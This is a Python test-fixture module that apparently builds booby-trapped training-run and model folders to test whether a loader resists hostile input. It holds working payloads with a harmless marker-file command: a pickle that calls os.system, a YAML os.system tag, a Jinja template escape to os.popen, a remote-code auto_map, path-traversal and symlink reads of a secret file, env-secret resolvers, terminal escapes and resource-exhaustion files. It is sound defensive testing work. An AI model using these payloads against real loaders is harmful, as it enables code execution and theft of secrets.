"""Folders that attack the program that opens them.

They contain code to import, names to call, pickles, special files and hostile values. Code that
runs writes a line to the file `marker`; data that is sent reaches `port`.
"""

from __future__ import annotations

import json
import os
import pickle
import shutil
import socket
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
from helpers.archives import pickle_of_key
from omegaconf import OmegaConf

SECRET = "the-readers-secret"
# Modules that a command imports, or that Python or a library imports if they exist.
MODULES = (
    "sitecustomize",
    "usercustomize",
    "json",
    "numpy",
    "torch",
    "yaml",
    "wandb",
    "transformers",
    "pyarrow",
    "megatron",
    "tritonclient",
    "aiohttp",
    "reinforce_rl",
    "helpers",
    "conftest",
    "trap",
    "antlr4",
)


@dataclass(frozen=True)
class Bait:
    """What a trap needs: a file that its code writes, a port of its addresses, a file to steal."""

    marker: Path
    port: int
    secret_file: Path

    @property
    def code(self) -> str:
        """Return Python that records its run; it is a reward function, a generator and a plugin."""
        return (
            "import os\n"
            f"with open({str(self.marker)!r}, 'a') as marker:\n"
            "    marker.write(__file__ + '\\n')\n"
            "def run(*args, **kwargs):\n"
            f"    with open({str(self.marker)!r}, 'a') as marker:\n"
            "        marker.write('called\\n')\n"
            "    return 1.0\n"
            "Generator = run\n"
        )

    @property
    def shell(self) -> str:
        return f"echo ran >> {self.marker}"


Trap = Callable[[Path, Bait], object]
RUN_TRAPS: dict[str, Trap] = {}
MODEL_TRAPS: dict[str, Trap] = {}


def of_run(trap: Trap) -> Trap:
    RUN_TRAPS[trap.__name__] = trap
    return trap


def of_model(trap: Trap) -> Trap:
    MODEL_TRAPS[trap.__name__] = trap
    return trap


class _RunsWhenLoaded:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self.command,)


# -- traps of a run's folder


@of_run
def code_beside_it(run: Path, bait: Bait) -> None:
    for name in MODULES:
        (run / f"{name}.py").write_text(bait.code)
    for package in ("hydra_plugins/evil", "reinforce_rl_plugins", "evil_dist-1.0.dist-info"):
        (run / package).mkdir(parents=True)
    (run / "hydra_plugins" / "evil" / "__init__.py").write_text(bait.code)
    (run / "evil_dist-1.0.dist-info" / "entry_points.txt").write_text(
        "[hydra.plugins]\nevil = trap:run\n"
    )
    (run / "evil_dist-1.0.dist-info" / "METADATA").write_text("Name: evil_dist\nVersion: 1.0\n")
    (run / "python").write_text(f"#!/bin/sh\n{bait.shell}\n")
    (run / "python").chmod(0o755)
    (run / "wandb").mkdir()
    (run / "wandb" / "settings").write_text(f"[default]\nbase_url = http://127.0.0.1:{bait.port}\n")


@of_run
def named_function(run: Path, bait: Bait) -> None:
    code_beside_it(run, bait)
    settings = {
        "reward": "function",
        "reward_function": {"name": "trap.run", "environment": ["READERS_SECRET"]},
    }
    store(run, settings)


@of_run
def named_shipped_function(run: Path, bait: Bait) -> None:
    kwargs = {
        "url": f"http://127.0.0.1:{bait.port}/v1",
        "model": "judge",
        "api_key_variable": "READERS_SECRET",
        "template_file": str(bait.secret_file),
    }
    function = {
        "name": "reinforce_rl.rewards.judge.llm_judge",
        "kwargs": kwargs,
        "environment": ["READERS_SECRET"],
    }
    store(run, {"reward": "function", "reward_function": function})


@of_run
def named_library_function(run: Path, bait: Bait) -> None:
    store(run, {"reward": "function", "reward_function": {"name": "cProfile.run"}})


@of_run
def named_server(run: Path, bait: Bait) -> None:
    server = {"ip": "127.0.0.1", "port": bait.port, "token_file": str(bait.secret_file)}
    store(run, {"reward": "server", "remote_rm": {"reward_model": server}})


@of_run
def named_engine(run: Path, bait: Bait) -> None:
    code_beside_it(run, bait)
    store(run, {"generation": "vllm", "engine": {"python": str(run / "python")}})


@of_run
def named_generator(run: Path, bait: Bait) -> None:
    code_beside_it(run, bait)
    store(run, {"generation": "trap.Generator"})


@of_run
def resolvers(run: Path, bait: Bait) -> None:
    secret = "${oc.env:READERS_SECRET}"
    settings = {
        "exp_manager": {"name": secret},
        "pretrained_checkpoint": {"restore_from_path": secret},
        "model": {"seed": "${oc.decode:1}"},
    }
    store(run, settings)


@of_run
def yaml_tags(run: Path, bait: Bait) -> None:
    tag = f"!!python/object/apply:os.system ['{bait.shell}']"
    _change_configs(run, lambda config: f"{config}\nevil: {tag}\n")


def _replace_in_checkpoints(run: Path, data: bytes, *names: str) -> None:
    for checkpoint in (run / "checkpoints").glob("step_*"):
        manifest_file = checkpoint / "manifest.json"
        manifest = json.loads(manifest_file.read_text())
        for name in names:
            (checkpoint / name).write_bytes(data)
            manifest["files"][name] = {"bytes": len(data), "crc32": f"{zlib.crc32(data):08x}"}
        manifest_file.write_text(json.dumps(manifest))


@of_run
def pickles(run: Path, bait: Bait) -> None:
    evil = pickle.dumps(_RunsWhenLoaded(bait.shell))
    names = ("model/.metadata", "model/common.pt", "rng/rank_00000.pt")
    _replace_in_checkpoints(run, evil, *names)


@of_run
def pickle_without_end(run: Path, bait: Bait) -> None:
    _replace_in_checkpoints(run, pickle_of_key(60), "model/.metadata")


@of_run
def sparse_files(run: Path, bait: Bait) -> None:
    """Write files of a single line that is larger than memory but takes no disk space."""
    for path in (run / "rollouts").glob("*.parquet"):
        path.rename(path.with_suffix(".jsonl"))
    for path in (
        run / "metrics.jsonl",
        run / "config_history.jsonl",
        *(run / "rollouts").iterdir(),
    ):
        os.truncate(path, 3 << 30)


@of_run
def parquet_of_much(run: Path, bait: Bait) -> None:
    """Write a text that is stored once and read a thousand times."""
    long_text = "x" * 10_000_000
    for path in (run / "rollouts").glob("*.parquet"):
        table = pq.read_table(path)
        many = table.take([0] * 1000)
        texts = pa.DictionaryArray.from_arrays(pa.array([0] * 1000, pa.int32()), [long_text])
        many = many.set_column(many.column_names.index("response"), "response", texts)
        with pq.ParquetWriter(path, many.schema, compression="zstd", store_schema=False) as writer:
            writer.write_table(many)
            writer.add_key_value_metadata(table.schema.metadata)


@of_run
def huge_numbers(run: Path, bait: Bait) -> None:
    store(
        run,
        {
            "trainer": {"devices": 10**6, "num_nodes": 10**6},
            "model": {"encoder_seq_length": 10**12, "reinforce": {"num_rollout_samples": 10**9}},
        },
    )


@of_run
def terminal_controls(run: Path, bait: Bait) -> None:
    """Ring the bell, clear the screen, set the title and reverse text in all printed values."""
    hostile = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202eevil"
    status = json.loads((run / "status.json").read_text())
    (run / "status.json").write_text(
        json.dumps({**status, "reason": hostile, "alerts": {hostile: hostile}})
    )
    lines = [json.loads(line) for line in (run / "metrics.jsonl").read_text().splitlines()]
    (run / "metrics.jsonl").write_text(
        "".join(json.dumps({**line, hostile: 1.0}) + "\n" for line in lines)
    )
    store(run, {"exp_manager": {"name": hostile}})


FILES = (
    "status.json",
    "metrics.jsonl",
    "config.yaml",
    "config_history.jsonl",
    "rollouts",
    "record",
    "checkpoints/latest",
)
MODEL_FILES = (
    "config.json",
    "tokenizer.json",
    "tokenizer_config.json",
    "generation_config.json",
    "model.safetensors",
)


def _replace_files(make: Trap, names: tuple[str, ...] = FILES) -> Trap:
    def trap(folder: Path, bait: Bait) -> None:
        for name in names:
            path = folder / name
            targets = sorted(path.iterdir()) if path.is_dir() else [path]
            for target in targets:
                target.unlink()
                make(target, bait)

    return trap


def _fifo(path: Path, bait: Bait) -> None:
    os.mkfifo(path)


def _socket(path: Path, bait: Bait) -> None:
    # A socket's path has at most 107 characters.
    before = Path.cwd()
    os.chdir(path.parent)
    try:
        with socket.socket(socket.AF_UNIX) as server:
            server.bind(path.name)
    finally:
        os.chdir(before)


def _device(path: Path, bait: Bait) -> None:
    path.symlink_to("/dev/zero")


def _deep(path: Path, bait: Bait) -> None:
    path.write_text("[" * 100_000 + "]" * 100_000)


ODD_VALUES = (
    '{"step": "many", "pid": -1, "time": Infinity, "state": "running", "max_steps": NaN, '
    '"reason": "\\ud800", "host": ["a"], "exit_code": 1e999, "alerts": 3}\n'
)


@of_run
def linked_checkpoint(run: Path, bait: Bait) -> None:
    """Move the newest checkpoint elsewhere and link it."""
    name = (run / "checkpoints" / "latest").read_text().strip()
    elsewhere = run.parent / f"{run.name}_elsewhere"
    (run / "checkpoints" / name).rename(elsewhere)
    (run / "checkpoints" / name).symlink_to(elsewhere)


@of_run
def named_elsewhere(run: Path, bait: Bait) -> None:
    (run / "checkpoints" / "latest").write_text("../../good/checkpoints/step_00000002")


RUN_TRAPS |= {
    "fifos": _replace_files(_fifo),
    "sockets": _replace_files(_socket),
    "devices": _replace_files(_device),
    "terminals": _replace_files(lambda path, _: path.symlink_to("/dev/tty")),
    "links_outside": _replace_files(lambda path, bait: path.symlink_to(bait.secret_file)),
    "circles": _replace_files(lambda path, _: path.symlink_to(path.name)),
    "folders": _replace_files(lambda path, _: path.mkdir()),
    "deep": _replace_files(_deep),
    "deep_objects": _replace_files(
        lambda path, _: path.write_text('{"step":' * 100_000 + "1" + "}" * 100_000)
    ),
    "odd_values": _replace_files(lambda path, _: path.write_text(ODD_VALUES)),
    "many_digits": _replace_files(
        lambda path, _: path.write_text('{"step": ' + "9" * 5000 + ', "pid": ' + "9" * 30 + "}\n")
    ),
    "no_text": _replace_files(lambda path, _: path.write_bytes(bytes(range(256)) * 100)),
}


def _change_configs(run: Path, change: Callable[[str], str]) -> None:
    config = run / "config.yaml"
    config.write_text(change(config.read_text()))
    history = run / "config_history.jsonl"
    lines = [json.loads(line) for line in history.read_text().splitlines()]
    changed = [{**line, "config": change(line["config"])} for line in lines]
    history.write_text("".join(json.dumps(line) + "\n" for line in changed))


def store(run: Path, settings: dict[str, Any]) -> None:
    """Merge settings into every stored configuration of a run's folder."""

    def change(config: str) -> str:
        return OmegaConf.to_yaml(OmegaConf.merge(OmegaConf.create(config), settings))

    _change_configs(run, change)
    for file in (run / "record").glob("*.json"):
        record = json.loads(file.read_text())
        record["settings"] = {**record["settings"], **dict(_flat(settings))}
        file.write_text(json.dumps(record))


def _flat(tree: dict[str, Any], prefix: str = "") -> list[tuple[str, Any]]:
    pairs: list[tuple[str, Any]] = []
    for key, value in tree.items():
        pairs += (
            _flat(value, f"{prefix}{key}.") if isinstance(value, dict) else [(prefix + key, value)]
        )
    return pairs


# -- traps of a model's folder


def _change_json(path: Path, **values: Any) -> None:
    path.write_text(json.dumps({**json.loads(path.read_text()), **values}))


@of_model
def model_code(model: Path, bait: Bait) -> None:
    classes = {
        "AutoConfig": "modeling_evil.run",
        "AutoModelForCausalLM": "modeling_evil.run",
        "AutoTokenizer": ["modeling_evil.run", "modeling_evil.run"],
    }
    (model / "modeling_evil.py").write_text(bait.code)
    _change_json(model / "config.json", auto_map=classes)
    _change_json(model / "tokenizer_config.json", auto_map=classes)
    code_beside_it(model, bait)


@of_model
def model_code_alone(model: Path, bait: Bait) -> None:
    model_code(model, bait)
    _change_json(model / "config.json", model_type="evil", architectures=["EvilForCausalLM"])
    _change_json(model / "tokenizer_config.json", tokenizer_class="EvilTokenizer")


@of_model
def pickled_weights(model: Path, bait: Bait) -> None:
    evil = pickle.dumps({"model.embed_tokens.weight": _RunsWhenLoaded(bait.shell)})
    (model / "model.safetensors").unlink()
    (model / "pytorch_model.bin").write_bytes(evil)


@of_model
def template_breaks_out(model: Path, bait: Bait) -> None:
    escape = "cycler.__init__.__globals__.os.popen"
    (model / "chat_template.jinja").write_text(
        "{{ " + escape + "('" + bait.shell + "').read() }}"
        "{{ ''.__class__.__mro__[1].__subclasses__() }}{{ lipsum.__globals__ }}"
    )


@of_model
def template_reads_files(model: Path, bait: Bait) -> None:
    (model / "chat_template.jinja").write_text("{% include '" + str(bait.secret_file) + "' %}")


@of_model
def template_without_end(model: Path, bait: Bait) -> None:
    loops = "".join("{% for " + name + " in range(99999) %}" for name in "abc")
    (model / "chat_template.jinja").write_text(loops + "x" + "{% endfor %}" * 3)


@of_model
def template_compares_without_end(model: Path, bait: Bait) -> None:
    double = "{% set ns.NAME = (ns.NAME, ns.NAME) %}"
    doubles = double.replace("NAME", "a") + double.replace("NAME", "b")
    start = "{% set ns = namespace(a=1, b=1) %}{% for i in range(60) %}"
    (model / "chat_template.jinja").write_text(
        start + doubles + "{% endfor %}{{ ns.a == ns.b }}{{ {ns.a: 1} }}"
    )


@of_model
def growing_tokenizer(model: Path, bait: Bait) -> None:
    double = {"type": "Replace", "pattern": {"String": "a"}, "content": "aa"}
    _change_json(
        model / "tokenizer.json", normalizer={"type": "Sequence", "normalizers": [double] * 40}
    )


@of_model
def index_leads_out(model: Path, bait: Bait) -> None:
    (model / "model.safetensors").unlink()
    weights = {"model.embed_tokens.weight": f"../../../../../../..{bait.secret_file}"}
    (model / "model.safetensors.index.json").write_text(
        json.dumps({"metadata": {}, "weight_map": weights})
    )


MODEL_TRAPS |= {
    "model_fifo": _replace_files(_fifo, MODEL_FILES),
    "model_device": _replace_files(_device, MODEL_FILES),
    "model_deep": _replace_files(_deep, MODEL_FILES),
}


def make_traps(target: Path, run: Path, model: Path, bait: Bait) -> dict[str, Path]:
    """Copy a run and a model below `target` for each trap, and once unchanged, as `good`.

    Return the folders by name.
    """
    folders = {"good": target / "runs" / "good", "good_model": target / "models" / "good_model"}
    shutil.copytree(run, folders["good"])
    shutil.copytree(model, folders["good_model"])
    for name, trap in RUN_TRAPS.items():
        folders[name] = target / "runs" / name
        shutil.copytree(run, folders[name])
        trap(folders[name], bait)
    for name, trap in MODEL_TRAPS.items():
        folders[name] = target / "models" / name
        shutil.copytree(model, folders[name])
        trap(folders[name], bait)
    return folders
